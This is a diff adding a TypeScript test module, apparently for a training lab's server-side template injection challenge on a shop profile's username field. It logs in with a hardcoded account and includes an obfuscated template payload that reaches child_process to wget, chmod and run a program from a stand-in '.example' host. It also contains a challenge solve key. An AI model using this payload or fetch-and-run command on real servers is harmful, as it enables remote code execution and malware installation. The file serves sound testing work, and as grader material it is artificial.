@@ -1,0 +1,103 @@
+import type { DrawnAttack, DrawnCheck, DrawTools, HeldBack, Oracle, Tools } from '#lab'
+
+const CALL_HOME = '/solve/challenges/server-side?key=tRy_H4rd3r_n0thIng_iS_Imp0ssibl3'
+
+/** Takes this name as Jim, and answers with his page. */
+async function page({ logIn, http, settings, expect }: Tools, username: string): Promise<string> {
+  const { token } = await logIn(`jim@${settings.domain}`, 'ncc-1701')
+  const headers = { cookie: `token=${token}`, 'content-type': 'application/x-www-form-urlencoded' }
+  const renamed = await http.post('/profile', `username=${encodeURIComponent(username)}`, { headers })
+  expect(renamed.status === 302, `the name was answered with ${renamed.status}`)
+  const shown = await http.get('/profile', { headers: { cookie: `token=${token}` } })
+  expect(shown.status === 200, `the page answered with ${shown.status}`)
+  return shown.text
+}
+
+/** A name that reckons: whoever reads the result has had it run. */
+function reckons(name: string, payload: string, result: string): DrawnAttack {
+  return {
+    name,
+    payload,
+    run: async (shop) => shop.expect((await page(shop, payload)).includes(result), 'nothing was run'),
+  }
+}
+
+function attacksOn({ draw }: DrawTools): DrawnAttack[] {
+  const [a, b] = [draw.number(1_001, 9_999), draw.number(1_001, 9_999)]
+  const [first, second] = [draw.word(), draw.word()]
+  const joined = draw.pick([
+    `'${first}'+'${second}'`,
+    `['${first}','${second}'].join('')`,
+    `'${first}'.concat('${second}')`,
+  ])
+  const cut = draw.number(1, 6)
+  const spelled = (word: string) => `'${word.slice(0, cut)}'+'${word.slice(cut)}'`
+  const from = `https://${draw.word()}.example/juicy_malware_linux`
+  const command = `wget -O ${first} ${from} && chmod +x ${first} && ./${first}`
+  const program =
+    `${draw.name()} #{globalThis[${spelled('process')}].mainModule[${spelled('require')}](${spelled('child_process')})` +
+    `.exec('${command}')}`
+  return [
+    reckons('a name that reckons', `#{${a}*${b}}`, String(a * b)),
+    reckons('words in front of it', `${draw.name()} #{${joined}}`, first + second),
+    reckons('one name within another', `#{/*#{*/${joined}}`, first + second),
+    reckons('over several lines', `${draw.name()}\n#{\n${joined}\n}`, first + second),
+    {
+      name: 'a name that fetches a program',
+      payload: program,
+      challenge: 'sstiChallenge',
+      run: async (shop) => {
+        await page(shop, program)
+        const call = await shop.http.get(CALL_HOME)
+        shop.expect(call.status === 204, 'nobody waits for the program to call home')
+      },
+    },
+  ]
+}
+
+/** Names that people have. */
+function names({ draw }: Pick<DrawTools, 'draw'>): string[] {
+  const [one, other] = [draw.name(), draw.word()]
+  return [
+    `${one} ${other}`,
+    `${one} #${draw.number(1, 9)} {${other}}`,
+    `${one} {${other}} #`,
+    `${one} process ${other}`,
+    `${one} require(${other})`,
+    `\\${one}`,
+  ]
+}
+
+function worksFor(tools: DrawTools): DrawnCheck[] {
+  return names(tools).map((name): DrawnCheck => {
+    return {
+      name: 'a customer finds her name on her page',
+      payload: name,
+      run: async (shop) => shop.expect((await page(shop, name)).includes(name), 'the name is missing'),
+    }
+  })
+}
+
+export const heldBack: HeldBack = (tools) => ({ attacks: attacksOn(tools), works: worksFor(tools) })
+
+export const oracle: Oracle = {
+  shownName: {
+    call: ({ draw }) => {
+      const name = draw.pick([
+        ...names({ draw }),
+        `#{${draw.word()}}`,
+        `${draw.name()}#{${draw.number(1, 9)}}`,
+        `#{}`,
+        `}#{`,
+        draw.pick(['', ' ', '#', '{', '}', '#{']),
+      ])
+      const asked: string[] = []
+      const evaluate = async (code: string): Promise<string> => {
+        asked.push(code)
+        return 'run'
+      }
+      // Nothing of a name is run, whatever it looks like.
+      return { args: [name, evaluate], payload: name, seen: () => asked }
+    },
+  },
+}
